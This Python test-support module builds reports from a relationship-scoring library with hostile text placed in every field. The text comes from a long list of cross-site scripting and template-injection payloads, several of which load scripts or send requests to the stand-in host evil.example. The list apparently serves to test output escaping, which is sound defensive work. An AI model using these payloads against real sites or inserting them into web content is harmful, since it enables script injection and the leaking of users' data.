"""Texts that try to become markup or script, and a report that holds one wherever it can."""

from __future__ import annotations

from functools import cache

import attrs

import relationship_health as rh
from relationship_health.hookspecs import Chart
from relationship_health.plugins import Registered
from relationship_health.report import render_report, report_content

CALL = "alert(1)"
SHORT = (
    "&amp;", "<!--", "]]>", "-->", "<b>", "{{7*7}}", "{%raw%}", "${1}", "\u202egnp.exe", "<",
    "&#60;b&#62;",
)  # fmt: skip
INJECTIONS = (
    *SHORT,
    f"<script>{CALL}</script>",
    f"<SCRIPT>{CALL}</SCRIPT>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    "<script src=https://evil.example/x.js></script>",
    "<script type=module>import('https://evil.example')</script>",
    f"</script><script>{CALL}</script>",
    f"</script ><script >{CALL}</script >",
    f"<!--<script>{CALL}//--></script>",
    f"</style><script>{CALL}</script>",
    f"</title><script>{CALL}</script>",
    f"</textarea><script>{CALL}</script>",
    f"</td></tr></table><script>{CALL}</script>",
    f"</svg><script>{CALL}</script>",
    f"</caption><img src=x onerror={CALL}>",
    f"<img src=x onerror={CALL}>",
    "<img src=https://evil.example/pixel.png>",
    "<img srcset=https://evil.example/pixel.png>",
    f'"><img src=x onerror={CALL}>',
    f"'><img src=x onerror={CALL}>",
    f'" onmouseover="{CALL}" x="',
    f"' onfocus='{CALL}' autofocus='",
    f'" autofocus onfocus={CALL} tabindex=1 x="',
    f"` onclick={CALL} `",
    f"<svg/onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    "<svg><use href=https://evil.example/x.svg#a>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={CALL}>",
    f"<iframe src=javascript:{CALL}></iframe>",
    f"<iframe srcdoc='<script>{CALL}</script>'></iframe>",
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example/x.swf>",
    f"<video><source onerror={CALL}></video>",
    f"<audio src=x onerror={CALL}></audio>",
    f"<details open ontoggle={CALL}>",
    f"<body onload={CALL}>",
    f"<input autofocus onfocus={CALL}>",
    f"<marquee onstart={CALL}>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<div style=background:url(https://evil.example/x.png)>",
    "<form action=https://evil.example><button>go</button></form>",
    f"<a href=javascript:{CALL}>click</a>",
    "<a href=https://evil.example ping=https://evil.example>click</a>",
    f"javascript:{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f"<template><script>{CALL}</script></template>",
    "<portal src=https://evil.example></portal>",
    "{{ 7 * 7 }}{% for x in y %}",
    "{{ self.__init__.__globals__ }}",
    f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e",
    f'\\";{CALL};//',
    f"\u2028{CALL}\u2029",
    f"<\u017fcript>{CALL}</\u017fcript>",
    f"+ADw-script+AD4-{CALL}+ADw-/script+AD4-",
    f"%3Cscript%3E{CALL}%3C/script%3E",
    f"&lt;script&gt;{CALL}&lt;/script&gt;",
)  # fmt: skip


class Markup(str):
    """Text that claims to be safe markup."""

    __slots__ = ()

    def __html__(self) -> str:
        """Return itself unescaped."""
        return str(self)


def scorecard(*names: str) -> rh.Scorecard:
    """Score a log in which people bear those names."""
    log = {
        "sender": ["us"] * len(names) + list(names),
        "recipient": list(names) + ["us"] * len(names),
        "time": ["2026-01-05T09:00Z"] * len(names) + ["2026-02-05T09:00Z"] * len(names),
        "channel": [*names, *names],
        "purpose": [*names, *names],
    }
    people = {"id": ["us", *names], "organisation": ["ours", *names]}
    portfolio = rh.Portfolio.from_frame(log, stakeholders=people, our_side={"us"})
    return rh.score(portfolio, as_of="2026-03-01")


def stranger(text: str) -> Registered[rh.ReportSection]:
    """Return a section that shows a text wherever it can."""

    @attrs.frozen
    class Answer:
        words = (text,)
        missing = (text,)

        def columns(self) -> dict[str, list[object]]:
            return {text: [text], "number": [1.0]}

    section = rh.ReportSection(
        name="a.b", title=text, columns=lambda _: Answer(),
        chart=Chart(kind="bars", value="number", label=(text,), value_label=text),
    )  # fmt: skip
    return Registered(name="a.b", item=section, plugin=text)


def scattered(text: str) -> Registered[rh.ReportSection]:
    """Return a section that draws a point with a text wherever a chart has one."""
    columns = {text: [text], "number": [1.0]}
    chart = Chart(
        kind="points", value="number", across="number", label=(text,), group=text,
        value_label=text, across_label=text,
    )  # fmt: skip
    section = rh.ReportSection(name="a.c", title=text, columns=lambda _: columns, chart=chart)
    return Registered(name="a.c", item=section, plugin=text)


def failing(text: str) -> Registered[rh.ReportSection]:
    """Return a section that fails with a text."""

    def columns(_: rh.Scorecard) -> dict[str, list[object]]:
        raise ValueError(text)

    section = rh.ReportSection(name="c.d", title=text, columns=columns)
    return Registered(name="c.d", item=section, plugin=text)


def rendered(text: str, *built_in: str) -> str:
    """Render a report with a text in every field that can hold one.

    ``built_in`` names the sections of the library that are in it too.
    """
    ours = [given for given in _built_in() if given.name in built_in]
    given = (stranger(text), scattered(text), failing(text), *ours)
    content = report_content(scorecard(text, "plain"), sections=given, title=text, notice=text)
    content = attrs.evolve(
        content, as_of=text, account=(text,), bands={text: 1}, statuses={text: 1},
        method=attrs.evolve(
            content.method, benchmark={text: text}, metrics=((text,) * 5,), failures=(text,),
            versions={text: text}, profile={text: text}, terms={text: text},
        ),
    )  # fmt: skip
    return render_report(content)


@cache
def _built_in() -> tuple[Registered[rh.ReportSection], ...]:
    return tuple(rh.Engine().registry.report_sections)
